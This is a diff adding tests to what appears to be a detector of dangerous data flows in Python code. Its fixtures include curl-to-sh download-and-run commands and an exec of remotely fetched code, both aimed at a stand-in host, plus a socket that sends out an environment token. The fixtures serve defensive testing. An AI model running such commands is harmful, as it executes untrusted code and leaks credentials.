@@ -218,6 +218,31 @@ describe('Python: data that is run', () => {
 	]);
 });
 
+describe('Python: what stands around it', () => {
+	testFlows('python', [
+		[
+			'a command in a notebook',
+			'import os\n!curl -s https://a.example/p | sh\nprint(1)',
+			['https://a.example/p > run by sh'],
+		],
+		[
+			'a command in a fence of Python',
+			'import os\ncurl -sS https://a.example/p | sh\n',
+			['https://a.example/p > run by sh'],
+		],
+		[
+			'a console session',
+			'>>> import requests\n>>> exec(requests.get("https://a.example/p").text)\n',
+			['https://a.example/p > run by exec'],
+		],
+		[
+			'a socket from elsewhere',
+			'import socket, os\ns = socket.socket()\ns.sendall(os.environ["A_TOKEN"].encode())',
+			['env A_TOKEN > ? (socket)'],
+		],
+	]);
+});
+
 describe('Python: packed code', () => {
 	testFlows('python', [
 		['base64', `import base64\nexec(base64.b64decode("${base64(ID)}"))`, [`base64: ${ID} > run by exec`]],
